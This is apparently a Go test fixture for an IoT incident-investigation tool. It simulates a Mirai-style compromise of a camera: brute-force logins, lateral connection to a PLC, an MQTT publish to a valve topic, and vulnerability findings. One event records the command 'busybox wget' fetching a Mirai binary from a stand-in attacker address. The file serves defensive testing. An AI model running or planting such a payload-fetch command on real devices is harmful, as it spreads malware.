package investigate

import (
	"net/netip"
	"path/filepath"
	"testing"
	"time"

	"github.com/vigil-iot/vigil"
	"github.com/vigil-iot/vigil/graph"
	"github.com/vigil-iot/vigil/store"
	"github.com/vigil-iot/vigil/store/sqlite"
	"github.com/vigil-iot/vigil/vuln"
)

// t0 is the scenario's first malicious event.
var t0 = time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC)

type fixedClock time.Time

func (c fixedClock) Now() time.Time { return time.Time(c) }

var attacker = netip.MustParseAddr("203.0.113.66")

// scenario stores a small fleet and a compromise of cam-1 from 203.0.113.66:
//
//   - before t0 cam-1 talks to therm-1 (not reached: before the attack);
//   - the attacker brute-forces cam-1 (root), logs in, and also tries cam-2;
//   - after t0 cam-1 downloads from the attacker, connects to plc-1 (10.0.0.9:502)
//     and publishes to plant/valves/set, which plc-2 subscribes to (plant/valves/#);
//   - cam-3 logs in as root (same account); gw-1 is the subnet's gateway;
//   - cam-1 and cam-2 share a vulnerability of busybox, their firmware and
//     software; therm-1 runs the same busybox; other-1 is elsewhere;
//   - the incident names cam-1's own address besides the attacker's.
func scenario(t *testing.T) (*Investigator, store.Store) {
	t.Helper()
	st, err := sqlite.Open(filepath.Join(t.TempDir(), "vigil.db"), sqlite.Options{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	ctx := t.Context()
	dev := func(id, class, addr string) {
		t.Helper()
		d := vigil.Device{ID: id, Class: class, State: vigil.StateActive, FirstSeen: t0.Add(-time.Hour), LastSeen: t0,
			Network: []vigil.NetIdentity{{Interface: "eth0", Addresses: []string{addr}}}}
		switch id {
		case "cam-1", "cam-2": // one model and firmware
			d.Vendor, d.Model, d.Firmware = "Hikvision", "DS-2CD2032", "5.4.0"
			d.Software = []vigil.Component{{Name: "busybox", Version: "1.24.1"}, {Name: "lighttpd", Version: "1.4.35"}}
		case "cam-3":
			d.Vendor, d.Model, d.Firmware = "Hikvision", "DS-2CD2032", "5.7.3"
		case "therm-1": // another device with the camera's busybox
			d.Software = []vigil.Component{{Name: "busybox", Version: "1.24.1"}, {Name: "busybox", Version: "1.24.1"}}
		}
		if err := st.PutDevice(ctx, d); err != nil {
			t.Fatal(err)
		}
	}
	dev("cam-1", vigil.ClassCamera, "10.0.0.5/24")
	dev("cam-2", vigil.ClassCamera, "10.0.0.6/24")
	dev("cam-3", vigil.ClassCamera, "10.0.1.3/24")
	dev("therm-1", vigil.ClassThermostat, "10.0.0.7/24")
	dev("plc-1", vigil.ClassPLCGateway, "10.0.0.9/24")
	dev("plc-2", vigil.ClassPLCGateway, "10.0.2.9/24")
	dev("gw-1", vigil.ClassGateway, "10.0.0.1/24")
	dev("other-1", vigil.ClassSensor, "10.9.0.1/24")

	n := 0
	var evs []vigil.Event
	ev := func(at time.Duration, device, kind, action, outcome string, nw *vigil.Network, fields map[string]any) {
		n++
		evs = append(evs, vigil.Event{ID: "e" + string(rune('a'+n/26)) + string(rune('a'+n%26)), Time: t0.Add(at), DeviceID: device,
			Kind: kind, Action: action, Outcome: outcome, Network: nw, Fields: fields})
	}
	inv := func(device, ip string) {
		ev(-time.Hour, device, vigil.KindInventory, "inventory", "", nil, map[string]any{"host.ip": []string{ip}})
	}
	for _, d := range [][2]string{{"cam-1", "10.0.0.5"}, {"cam-2", "10.0.0.6"}, {"cam-3", "10.0.1.3"}, {"therm-1", "10.0.0.7"}, {"plc-1", "10.0.0.9"}, {"plc-2", "10.0.2.9"}} {
		inv(d[0], d[1])
	}
	from := &vigil.Network{SrcIP: attacker}
	ev(-10*time.Minute, "cam-1", vigil.KindNetwork, "connect", "success", &vigil.Network{SrcIP: netip.MustParseAddr("10.0.0.5"), DstIP: netip.MustParseAddr("10.0.0.7")}, nil)
	ev(0, "cam-1", vigil.KindAuth, "login", "failure", from, map[string]any{"user.name": "admin"})
	ev(time.Second, "cam-1", vigil.KindAuth, "login", "success", from, map[string]any{"user.name": "root"})
	ev(2*time.Second, "cam-2", vigil.KindAuth, "login", "failure", from, map[string]any{"user.name": "root"})
	ev(3*time.Second, "cam-1", vigil.KindProcess, "exec", "success", nil, map[string]any{"process.command_line": "busybox wget http://203.0.113.66/bins/mirai.arm7"})
	ev(4*time.Second, "cam-1", vigil.KindNetwork, "connect", "success", &vigil.Network{SrcIP: netip.MustParseAddr("10.0.0.5"), DstIP: netip.MustParseAddr("10.0.0.9"), DstPort: 502}, nil)
	ev(5*time.Second, "cam-1", "mqtt", "publish", "", nil, map[string]any{"mqtt.topic": "plant/valves/set"})
	ev(-time.Hour, "plc-2", "mqtt", "subscribe", "", nil, map[string]any{"mqtt.topics": []string{"plant/valves/#"}})
	ev(-time.Hour, "therm-1", "mqtt", "subscribe", "", nil, map[string]any{"mqtt.topics": []string{"home/#"}})
	ev(-30*time.Minute, "cam-3", vigil.KindAuth, "login", "success", &vigil.Network{SrcIP: netip.MustParseAddr("10.0.1.100")}, map[string]any{"user.name": "root"})
	ev(-30*time.Minute, "other-1", vigil.KindAuth, "login", "success", nil, map[string]any{"user.name": "ops"})

	b := graph.NewBatch()
	x := graph.DefaultExtractor()
	for i := range evs {
		x.Add(b, &evs[i])
	}
	if err := st.PutEvents(ctx, evs); err != nil {
		t.Fatal(err)
	}
	if err := st.PutGraph(ctx, b.Flush()); err != nil {
		t.Fatal(err)
	}
	inc := vigil.Incident{ID: "inc-1", Title: "Mirai-style compromise of cam-1", Status: vigil.IncidentOpen, Severity: vigil.SeverityCritical,
		DeviceIDs: []string{"cam-1"}, Entities: []string{"ip:10.0.0.5", "ip:203.0.113.66", "user:root"}, AlertIDs: []string{"al-1"},
		Techniques: []string{"T1110", "T1105"}, FirstEventTime: t0, FirstReceived: t0.Add(100 * time.Millisecond),
		Detected: t0.Add(2 * time.Second), Contained: t0.Add(9 * time.Second), Updated: t0.Add(9 * time.Second)}
	if err := st.PutIncident(ctx, inc); err != nil {
		t.Fatal(err)
	}
	findings := map[string][]vuln.Finding{
		"cam-1": {{ID: "f1", DeviceID: "cam-1", Vuln: "CVE-2016-2148", Component: "busybox", ComponentVersion: "1.24.1", KEV: true, Exposed: true, Exposure: "listening tcp/23 (telnetd)"}},
		"cam-2": {{ID: "f2", DeviceID: "cam-2", Vuln: "CVE-2016-2148", Component: "busybox", ComponentVersion: "1.24.1", KEV: true}},
		"cam-3": {{ID: "f3", DeviceID: "cam-3", Vuln: "CVE-2099-0001", Component: "lighttpd", ComponentVersion: "1.4.35"}},
	}
	iv := New(Options{Store: st, Clock: fixedClock(t0.Add(time.Hour)), Findings: func(id string) []vuln.Finding { return findings[id] }})
	return iv, st
}

// newBatch returns the graph of events.
func newBatch(evs ...*vigil.Event) store.GraphBatch {
	b := graph.NewBatch()
	x := graph.DefaultExtractor()
	for _, e := range evs {
		x.Add(b, e)
	}
	return b.Flush()
}
